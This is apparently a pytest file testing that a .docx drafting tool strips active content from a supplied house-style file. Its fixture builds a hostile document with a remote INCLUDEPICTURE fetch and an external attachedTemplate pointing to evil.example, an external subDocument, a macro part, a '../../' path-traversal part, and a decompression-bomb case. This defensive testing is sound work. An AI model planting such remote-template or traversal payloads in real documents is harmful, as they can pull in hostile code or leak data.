"""A house's style file brings its looks into a draft, and nothing that can act."""

from __future__ import annotations

import pytest

from moudraft import data
from moudraft.problems import MoudraftError
from moudraft.writers.word.docx_writer import to_docx
from moudraft.writers.word.house_style import read_style_sheet
from tests.comparison.damage import OFFICE, part_of, tied, with_parts
from tests.writers.word.made import TODAY
from tests.writers.word.reading import names
from tests.writers.word.sample import sample

HEADER = "word/header1.xml"


def house_style() -> bytes:
    return data.path("templates/style/house-style.docx").read_bytes()


def hostile() -> bytes:
    settings = part_of(house_style(), "word/settings.xml").replace(
        b"<w:zoom ", b'<w:docVars><w:docVar w:name="evil" w:val="evil"/></w:docVars><w:zoom '
    )
    words = (
        '<w:p><w:r><w:t>Crest</w:t></w:r><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/x "><w:r>'
        '<w:t>kept</w:t></w:r></w:fldSimple><w:hyperlink r:id="rId1"><w:r><w:t>words</w:t></w:r></w:hyperlink>'
        "<w:r><w:object/></w:r></w:p>"
    )
    header = part_of(house_style(), HEADER)
    root, close, _ = header.rpartition(b"</w:hdr>")
    header = root.replace(b"<w:hdr ", f'<w:hdr xmlns:r="{OFFICE}" '.encode(), 1) if b"xmlns:r=" not in root else root
    ties = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/hyperlink" Target="file://evil.example/x" TargetMode="External"/></Relationships>'
    )
    style = with_parts(house_style(), {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": ties.replace("hyperlink", "attachedTemplate").encode(),
        HEADER: header + words.encode() + close,
        "word/_rels/header1.xml.rels": ties.encode(),
        "word/vbaProject.bin": b"evil",
        "../../evil.xml": b"<evil/>",
    })  # fmt: skip
    return tied(style, ("rId90", "vbaProject", "vbaProject.bin", False), ("rId91", "subDocument", "evil.docx", True))


def test_a_draft_carries_nothing_active_of_a_style_file() -> None:
    made = to_docx(sample(), today=TODAY, style=hostile())
    assert b"evil" not in b"".join(part_of(made, name) for name in names(made))
    assert not any("evil" in name or "vba" in name or ".." in name for name in names(made))
    header = part_of(made, HEADER).decode()
    assert all(f">{word}<" in header for word in ("Crest", "kept", "words"))


def test_what_a_style_file_holds_and_no_draft_is_to_carry_is_told() -> None:
    dropped = read_style_sheet(hostile()).dropped
    assert {"macros", "a template elsewhere", "document variables", "parts with a path out of the file"} <= set(dropped)
    assert read_style_sheet(house_style()).dropped == ()


@pytest.mark.parametrize("kind", ["template.main", "document.macroEnabled.main"])
def test_a_template_serves_as_a_style_file(kind: str) -> None:
    types = part_of(house_style(), "[Content_Types].xml")
    other = b"wordprocessingml.template.main+xml" if "template" in kind else b"ms-word.document.macroEnabled.main+xml"
    template = with_parts(
        house_style(), {"[Content_Types].xml": types.replace(b"wordprocessingml.document.main+xml", other)}
    )
    assert to_docx(sample(), today=TODAY, style=template) == to_docx(sample(), today=TODAY)


def test_an_open_document_is_called_what_it_is() -> None:
    odt = with_parts(house_style(), {"mimetype": b"application/vnd.oasis.opendocument.text"})
    with pytest.raises(MoudraftError, match=r"an OpenDocument text \(\.odt\)") as caught:
        read_style_sheet(odt)
    assert "save it as .docx" in caught.value.problems[0].hint


def test_styles_based_on_one_another_in_a_circle_are_read() -> None:
    styles = part_of(house_style(), "word/styles.xml").replace(
        b'<w:name w:val="Recital"/>', b'<w:name w:val="Recital"/><w:basedOn w:val="Recital"/>'
    )
    found = with_parts(house_style(), {"word/styles.xml": styles})
    try:
        assert read_style_sheet(found)
    except MoudraftError as error:
        assert "Recital" in str(error)


def test_a_small_style_file_that_unpacks_to_very_much_is_refused() -> None:
    large = with_parts(house_style(), {"word/styles.xml": b"<x>" + b" " * 60_000_000 + b"</x>"})
    with pytest.raises(MoudraftError, match="too large"):
        read_style_sheet(large)
